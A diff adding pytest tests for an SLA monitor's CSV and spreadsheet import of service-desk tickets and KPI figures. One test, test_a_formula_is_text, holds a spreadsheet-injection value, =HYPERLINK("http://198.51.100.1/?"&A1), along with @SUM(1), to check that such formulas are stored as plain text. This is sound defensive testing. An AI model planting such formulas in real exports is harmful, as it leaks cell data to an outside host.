@@ -1,0 +1,194 @@
+"""Tickets and figures from files as spreadsheets and service desks make them."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from sla_monitor.register.sheet import SIZE_LIMIT, day_first, read_sheet
+from tests.register.office import Office
+
+TICKETS = """\
+id,priority,service,opened,ended
+INC1,P1,custody,2024-02-05 09:00,2024-02-05 10:00
+INC2,P2,,2024-02-06 09:00,
+"""
+
+
+@pytest.fixture
+def office(tmp_path: Path) -> Office:
+    return Office.furnished(tmp_path)
+
+
+def tickets(office: Office) -> list[dict[str, object]]:
+    listed = office.done("list", "small", "--kind", "ticket", "--format", "json").json["entries"]
+    return [entry["said"] for entry in listed]
+
+
+def test_each_row_is_an_entry_that_names_its_file(office: Office) -> None:
+    said = office.done("import", "small", office.file(TICKETS), "--kind", "ticket", "--yes")
+    assert said.out == "2 rows: 2 added (entries 1 to 2), 0 in the register already\n"
+    (first, second) = office.done("list", "small", "--format", "json").json["entries"]
+    assert first["said"]["ended"] == "2024-02-05T10:00:00Z"
+    assert (second["said"]["service"], second["said"]["ended"]) == (None, None)
+    assert first["evidence"].startswith("tickets.csv, SHA-256 ")
+
+
+def test_the_same_file_again_adds_nothing(office: Office) -> None:
+    path = office.file(TICKETS)
+    office.done("import", "small", path, "--kind", "ticket", "--yes")
+    said = office.done("import", "small", path, "--kind", "ticket")
+    assert said.out == "2 rows: 0 added, 2 in the register already\n"
+    assert len(office.done("list", "small", "--all", "--format", "json").json["entries"]) == 2
+
+
+def test_a_ticket_that_has_changed_is_entered_again(office: Office) -> None:
+    office.done("import", "small", office.file(TICKETS), "--kind", "ticket", "--yes")
+    later = office.file(TICKETS.replace("09:00,\n", "09:00,2024-02-06 11:00\n"))
+    said = office.done("import", "small", later, "--kind", "ticket", "--yes", "--format", "json").json
+    assert said == {
+        "contract": "small",
+        "rows": 2,
+        "added": 1,
+        "unchanged": 1,
+        "dry_run": False,
+        "numbers": [3, 3],
+    }
+    assert [each["id"] for each in tickets(office)] == ["INC1", "INC2"]
+    everything = office.done("list", "small", "--all", "--format", "json").json["entries"]
+    assert [each["state"] for each in everything] == ["stands", "replaced by 3", "stands"]
+
+
+def test_a_dry_run_checks_and_shows_and_adds_nothing(office: Office) -> None:
+    said = office.done("import", "small", office.file(TICKETS), "--kind", "ticket", "--dry-run")
+    assert said.out == "2 rows: 2 would be added, 0 in the register already\n"
+    assert "This changes months that are over." in said.err
+    assert office.done("list", "small", "--all").out == "no entries\n"
+
+
+def test_a_broken_row_is_told_with_its_line_and_nothing_is_half_applied(office: Office) -> None:
+    rows = ["id,priority,service,opened,ended", "INC1,P1,custody,2024-02-05 09:00,2024-02-05 10:00"]
+    rows += ['INC2,P1,custdy,2024-02-05 09:00,"2024-02-05', '08:00"', "INC3,p1,,2024-02-05 09:00,2024-02-05 08:00"]
+    rows += ["INC4,,,2024-03-31 01:30,", "", "INC1,P1,,2024-02-05 09:00,"]
+    said = office.run("import", "small", office.file("\n".join(rows)), "--kind", "ticket", "--yes")
+    assert said.code == 1
+    assert [line.partition(" (")[0].partition(", where")[0] for line in said.err.splitlines()] == [
+        "tickets.csv:3: ended: must be an instant",
+        "tickets.csv:6: priority: is missing",
+        "tickets.csv:6: opened: 2024-03-31 01:30:00 is told twice or not at all in Europe/London",
+        "tickets.csv:8: the same ticket is on line 2",
+    ]
+    assert office.done("list", "small", "--all").out == "no entries\n"
+
+
+def test_what_the_contract_does_not_know_is_told_of_every_row(office: Office) -> None:
+    rows = "id,priority,service,opened\nINC1,p1,custody,2024-02-05\nINC2,P1,custdy,2024-02-05\n"
+    said = office.run("import", "small", office.file(rows), "--kind", "ticket", "--yes")
+    assert said.err.splitlines() == [
+        "tickets.csv:2: priority: no KPI counts p1 (did you mean P1?)",
+        "tickets.csv:3: service: no such service: custdy (did you mean custody?)",
+    ]
+
+
+def test_a_file_as_a_spreadsheet_saves_it(office: Office) -> None:
+    """A byte order mark, semicolons, quotes, line ends of Windows, days first, a number kept as text, a note over two
+    lines, and a column that nobody asked for."""
+    text = "\ufeffIncident No;Priority;Opened;Resolved;Note;Assigned to\r\n"
+    text += '"=""00123""";P1;05/02/2024 09:00;5/2/2024 9:30;"said; and\r\ndone";bob\r\n;;;;;\r\n'
+    path = office.file(text)
+    words = ("--kind", "ticket", "--map", "incident no=id", "--dates", "day-first", "--yes")
+    said = office.done("import", "small", path, *words)
+    assert "columns left out: 'Assigned to'" in said.err
+    (entry,) = office.done("list", "small", "--format", "json").json["entries"]
+    assert (entry["said"]["id"], entry["said"]["opened"]) == ("00123", "2024-02-05T09:00:00Z")
+    assert entry["said"]["ended"] == "2024-02-05T09:30:00Z"
+    assert entry["note"].split() == ["said;", "and", "done"]
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
+def test_a_file_may_be_in_the_encodings_of_spreadsheets(office: Office, encoding: str) -> None:
+    text = "kpi\tmonth\tparty\tvalue\tnote\nKPI3\t2024-02\tsupplier\t81\tn° 5\n"
+    path = office.file(text.encode(encoding), "figures.txt")
+    office.done("import", "small", path, "--kind", "figure", "--yes")
+    assert "n° 5" in office.done("list", "small", "--format", "json").json["entries"][0]["note"]
+
+
+def test_a_formula_is_text(office: Office) -> None:
+    formula = '=HYPERLINK("http://198.51.100.1/?"&A1)'
+    rows = f'id,priority,opened,reference\n"{formula.replace(chr(34), chr(34) * 2)}",P1,2024-02-05,@SUM(1)\n'
+    office.done("import", "small", office.file(rows), "--kind", "ticket", "--yes")
+    assert tickets(office)[0]["id"] == formula
+
+
+def test_figures_may_be_the_suppliers_without_a_column_that_says_so(office: Office) -> None:
+    rows = "KPI,Month,Value,In target,Total\nKPI3,2024-02,87.5,,\nKPI2,2024-02,,9,10\n"
+    office.done("import", "small", office.file(rows), "--kind", "figure", "--party", "supplier", "--yes")
+    listed = office.done("list", "small", "--format", "json").json["entries"]
+    told = [(one["said"]["kpi"], one["said"]["value"], one["said"]["total"], one["said"]["party"]) for one in listed]
+    assert told == [("KPI3", "87.5", None, "supplier"), ("KPI2", None, 10, "supplier")]
+
+
+def test_clock_stops_stand_in_one_column(office: Office) -> None:
+    stops = "waiting 2024-02-05 09:10 / 2024-02-05 09:20; waiting 2024-02-05 09:30"
+    rows = f"id,priority,opened,stops\nINC1,P1,2024-02-05 09:00,{stops}\n"
+    office.done("import", "small", office.file(rows), "--kind", "ticket", "--yes")
+    found = tickets(office)[0]["stops"]
+    assert found == [
+        {"start": "2024-02-05T09:10:00Z", "end": "2024-02-05T09:20:00Z", "reason": "waiting"},
+        {"start": "2024-02-05T09:30:00Z", "end": None, "reason": "waiting"},
+    ]
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        (b"", "1: has no column that is known"),
+        (b"a,b\n1,2\n", "1: has no column that is known (name them with --map; its columns: a, b)"),
+        (b"id,ticket,priority\n1,2,P1\n", "1: has 2 columns for id"),
+        (b"id,priority\n1,P1,\xff\n", "2: is not UTF-8 text (save the file as CSV UTF-8)"),
+        (b'id,priority\n"1,P1\n', "2: cannot be read"),
+        (b"id,priority,opened\n1,P1,2024-02-05,too,many\n", "2: has 5 cells, and the heading has 3"),
+        (b"id,priority\n1,P\x001\n", "cannot be printed"),
+    ],
+)
+def test_a_file_that_is_none_is_refused(office: Office, content: bytes, words: str) -> None:
+    said = office.run("import", "small", office.file(content), "--kind", "ticket", "--yes")
+    assert said.code == 1
+    assert words in said.err or (b"\x00" in content and "tickets.csv:2" in said.err)
+
+
+def test_a_mapping_of_a_column_that_is_not_there_is_refused(office: Office) -> None:
+    said = office.run("import", "small", office.file(TICKETS), "--kind", "ticket", "--map", "Number=id")
+    assert "tickets.csv:1: has no column 'number', which --map names (its columns: id, priority" in said.err
+    said = office.run("import", "small", office.file(TICKETS), "--kind", "ticket", "--map", "id=number")
+    assert (said.code, "a ticket has no field 'number'" in said.err) == (2, True)
+    assert office.run("import", "small", office.file(TICKETS), "--kind", "ticket", "--map", "id").code == 2
+
+
+def test_a_file_that_cannot_be_read_is_refused(office: Office) -> None:
+    said = office.run("import", "small", str(office.folder / "nowhere.csv"), "--kind", "ticket")
+    assert (said.code, "nowhere.csv: cannot be read: No such file or directory" in said.err) == (1, True)
+    assert "larger than 64 MiB" in read_sheet(b"x" * (SIZE_LIMIT + 1), "ticket", {}).problems[0][1]
+
+
+def test_a_file_of_the_wrong_kind_does_not_flood_the_terminal(office: Office) -> None:
+    rows = "id,priority,opened\n" + "".join(f"INC{n},P1,yesterday\n" for n in range(500))
+    said = office.run("import", "small", office.file(rows), "--kind", "ticket")
+    assert len(said.err.splitlines()) == 101
+    assert said.err.endswith("... and 400 more\n")
+
+
+@pytest.mark.parametrize(
+    ("text", "plain", "turned"),
+    [
+        ("5/2/2024", "2024-02-05", "2024-05-02"),
+        ("05.02.2024 9:05", "2024-02-05 09:05", "2024-05-02 09:05"),
+        ("05/02/2024 09:05:07", "2024-02-05 09:05:07", "2024-05-02 09:05:07"),
+        ("2024-02-05 09:05", "2024-02-05 09:05", "2024-02-05 09:05"),
+        ("tomorrow", "tomorrow", "tomorrow"),
+    ],
+)
+def test_dates_are_read_as_the_file_was_said_to_write_them(text: str, plain: str, turned: str) -> None:
+    assert day_first(text) == plain
+    assert day_first(text, month_first=True) == turned
